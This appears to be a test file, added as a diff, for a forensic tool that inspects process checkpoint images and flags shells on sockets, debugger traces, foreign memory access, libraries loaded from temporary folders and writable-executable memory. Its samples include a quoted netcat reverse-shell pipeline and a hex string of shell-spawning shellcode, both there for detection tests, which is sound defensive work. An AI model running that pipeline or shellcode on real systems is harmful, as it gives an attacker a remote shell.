@@ -1,0 +1,154 @@
+"""Findings about processes: each once where it is, and not where it is not."""
+import json
+import os
+import subprocess
+import tempfile
+import unittest
+
+from made_checkpoint import MAGIC, PAGE, area, image, inventory, message, write_images
+
+EXHIBIT = os.environ["EXHIBIT"]
+STACK, CODE = 0x7FFE00000000, 0x555500000000
+OWNER = message(f1=0, f2=0, f3=0, f4=0, f5=0)
+FDINFO = 0x56213732
+REG, PIPE, INETSK, UNIXSK = 1, 2, 4, 5
+
+
+def regular(id, path):
+    return message(f1=REG, f2=id, f3=message(f1=id, f2=0o100002, f3=0, f5=OWNER, f6=path, f7=-1))
+
+
+def pipe(id, number):
+    return message(f1=PIPE, f2=id, f18=message(f1=id, f2=number, f3=0, f4=OWNER))
+
+
+def tcp(id, address=0x0100007F, port=4444, state=1):
+    socket = message(f1=id, f2=id, f3=2, f4=1, f5=6, f6=state, f7=40000, f8=port, f9=2, f10=0,
+                     f11=[0x0100007F], f12=[address], f13=OWNER, f14=message(f1=1, f2=1, f3=0, f4=0, f5=0, f6=0))
+    return message(f1=INETSK, f2=id, f4=socket)
+
+
+class Made(unittest.TestCase):
+    def setUp(self):
+        self.there = tempfile.TemporaryDirectory()
+        self.root = self.there.name
+
+    def tearDown(self):
+        self.there.cleanup()
+
+    def dump(self, processes, files, spec=None):
+        """processes: {pid: {argv, exe, fds: {fd: id}, type: {fd: type}, areas, personality}}"""
+        images = {"inventory": inventory(), "files": image(MAGIC["files"], *files),
+                  "pstree": image(MAGIC["pstree"], *[
+                      message(f1=pid, f2=p.get("ppid", 0), f3=pid, f4=1, f5=pid) for pid, p in processes.items()])}
+        for pid, p in processes.items():
+            argv = b"\0".join(p.get("argv", [])) + b"\0"
+            areas = [area(CODE, CODE + PAGE, 5, 2, 0x41, 0, p["exe"])] + p.get("areas", [])
+            areas.append(area(STACK, STACK + PAGE))
+            images[f"core__{pid}"] = image(MAGIC["core"], message(f1=1, f3=message(
+                f1=1, f2=0, f3=p.get("personality", 0), f6=p["comm"])))
+            images[f"mm__{pid}"] = image(MAGIC["mm"], message(
+                f8=STACK, f9=STACK + len(argv), f10=STACK + len(argv), f11=STACK + len(argv), f12=p["exe"], f14=areas))
+            images[f"ids__{pid}"] = image(MAGIC["ids"], message(f1=pid, f2=pid, f3=pid, f4=pid))
+            images[f"fdinfo__{pid}"] = image(FDINFO, *[
+                message(f1=id, f2=0, f3=kind, f4=fd) for fd, (kind, id) in p.get("fds", {}).items()])
+            content = p.get("pages", {}) | {STACK: argv.ljust(PAGE, b"\0")}
+            images[f"pagemap__{pid}"] = image(MAGIC["pagemap"], message(f1=pid), *[
+                message(f1=at, f2=0, f4=4, f5=1) for at in sorted(content)])
+            images[f"pages__{pid}"] = b"".join(content[at].ljust(PAGE, b"\0") for at in sorted(content))
+        write_images(os.path.join(self.root, "checkpoint"), **images)
+        if spec:
+            with open(os.path.join(self.root, "spec.dump"), "w") as f:
+                json.dump(spec, f)
+
+    def findings(self, which):
+        out = subprocess.run([EXHIBIT, "checkpoint", self.root, "findings", "--json"],
+                             stdout=subprocess.PIPE, check=True).stdout
+        return [f for f in json.loads(out) if f["id"] == which]
+
+    # -- shells ------------------------------------------------------------------------
+
+    SH = {"exe": 1, "comm": b"sh", "argv": [b"sh"]}
+
+    def test_shell_on_a_socket(self):
+        self.dump({1: {**self.SH, "fds": {0: (INETSK, 9), 1: (INETSK, 9)}}}, [regular(1, b"/bin/dash"), tcp(9)])
+        (f,) = self.findings("process.shell-on-socket")
+        self.assertEqual(f["arguments"]["connection"], "tcp 127.0.0.1:40000 -> 127.0.0.1:4444 established")
+
+    def test_shell_behind_pipes_of_a_program_with_a_connection(self):
+        """mkfifo p; sh < p | nc HOST PORT > p"""
+        nc = {"exe": 2, "comm": b"nc", "argv": [b"nc"], "fds": {0: (PIPE, 6), 1: (PIPE, 5), 3: (INETSK, 9)}}
+        shell = {**self.SH, "fds": {0: (PIPE, 5), 1: (PIPE, 6)}}
+        files = [regular(1, b"/bin/dash"), regular(2, b"/usr/bin/nc"), pipe(5, 100), pipe(6, 200), tcp(9)]
+        self.dump({1: shell, 2: nc}, files)
+        (f,) = self.findings("process.shell-on-socket")
+        self.assertEqual((f["arguments"]["through"], f["arguments"]["program"]), ("pid 2", "nc"))
+        # The same without a connection, or with a listener only, is a pipeline.
+        self.dump({1: shell, 2: {**nc, "fds": {0: (PIPE, 6), 1: (PIPE, 5)}}}, files)
+        self.assertEqual(self.findings("process.shell-on-socket"), [])
+        self.dump({1: shell, 2: nc}, files[:4] + [tcp(9, 0, 0, 10)])
+        self.assertEqual(self.findings("process.shell-on-socket"), [])
+
+    # -- debuggers ---------------------------------------------------------------------
+
+    def test_debugger_and_its_traces(self):
+        self.dump({1: {"exe": 1, "comm": b"gdb", "argv": [b"gdb"]},
+                   2: {"exe": 2, "comm": b"app", "argv": [b"app"], "personality": 0x40000},
+                   3: {"exe": 2, "comm": b"app", "argv": [b"app"]}},
+                  [regular(1, b"/usr/bin/gdb"), regular(2, b"/usr/bin/app")])
+        self.assertEqual([f["subject"] for f in self.findings("process.trace")], ["pid 1 (gdb)", "pid 2 (app)"])
+
+    def test_memory_of_another_process(self):
+        own, other = regular(8, b"/proc/1/mem"), regular(9, b"/proc/2/mem")
+        self.dump({1: {"exe": 1, "comm": b"app", "argv": [b"app"], "fds": {3: (REG, 8), 4: (REG, 9)}}},
+                  [regular(1, b"/usr/bin/app"), own, other])
+        (f,) = self.findings("process.other-memory-open")
+        self.assertEqual((f["arguments"]["target"], f["arguments"]["fd"]), ("/proc/2/mem", "4"))
+
+    # -- memory ------------------------------------------------------------------------
+
+    def test_library_from_a_temporary_folder(self):
+        at = 0x7F0000000000
+        self.dump({1: {"exe": 1, "comm": b"app", "argv": [b"app"],
+                       "areas": [area(at, at + PAGE, 1, 2, 0x41, 0, 2), area(at + PAGE, at + 2 * PAGE, 5, 2, 0x41, PAGE, 2),
+                                 area(at + PAGE * 4, at + 5 * PAGE, 5, 2, 0x41, 0, 3)]}},
+                  [regular(1, b"/usr/bin/app"), regular(2, b"/dev/shm/.x.so"), regular(3, b"/usr/lib/libc.so.6")])
+        (f,) = self.findings("process.library-from-temporary-folder")
+        self.assertEqual(f["arguments"]["area"], "/dev/shm/.x.so")
+
+    def test_what_is_in_writable_and_executable_memory(self):
+        at = 0x7F0000000000
+        code = bytes(64) + bytes.fromhex("4831f65648bf2f62696e2f2f736857545f6a3b58990f05")
+        app = {"exe": 1, "comm": b"app", "argv": [b"app"], "areas": [area(at, at + PAGE, 7)]}
+        self.dump({1: {**app, "pages": {at: code}}}, [regular(1, b"/usr/bin/app")])
+        (f,) = self.findings("process.writable-executable-memory")
+        a = f["arguments"]
+        self.assertEqual((a["content"], a["bytes_used"]), ("data", "23"))
+        self.assertEqual(a["signs_of_code"], "system call, path of a shell, as a number")
+        self.dump({1: {**app, "pages": {at: b"\x7fELF\2\1\1"}}}, [regular(1, b"/usr/bin/app")])
+        (f,) = self.findings("process.writable-executable-memory")
+        self.assertEqual(f["arguments"]["content"], "an ELF header")
+
+    # -- arguments ---------------------------------------------------------------------
+
+    def test_first_process_against_the_specification(self):
+        spec = {"ociVersion": "1.0.2", "process": {"args": ["/usr/bin/app", "--serve"]}}
+        app = {"exe": 1, "comm": b"app", "argv": [b"/usr/bin/app", b"--serve"]}
+        self.dump({1: app, 2: {**app, "ppid": 1, "argv": [b"other"]}}, [regular(1, b"/usr/bin/app")], spec)
+        self.assertEqual(self.findings("process.arguments-differ"), [])
+        self.dump({1: {**app, "argv": [b"/usr/bin/app", b"--mine"]}}, [regular(1, b"/usr/bin/app")], spec)
+        (f,) = self.findings("process.arguments-differ")
+        self.assertEqual(f["arguments"]["specified"], "/usr/bin/app --serve")
+
+    def test_what_several_processes_hold_is_told_once(self):
+        held = {"exe": 1, "comm": b"app", "argv": [b"app"], "fds": {3: (10, 7)}}
+        packet = message(f1=10, f2=7, f6=message(f1=7, f2=3, f3=0x300, f4=0, f5=0, f6=OWNER,
+                                                 f7=message(f1=1, f2=1, f3=0, f4=0, f5=0, f6=0), f8=0, f9=0, f10=0,
+                                                 f11=0, f12=0, f13=0, f14=0, f15=0))
+        self.dump({1: held, 2: {**held, "ppid": 1}}, [regular(1, b"/usr/bin/app"), packet])
+        (f,) = self.findings("process.packet-socket")
+        self.assertEqual(f["arguments"]["pids"], "1 2")
+
+
+if __name__ == "__main__":
+    unittest.main()
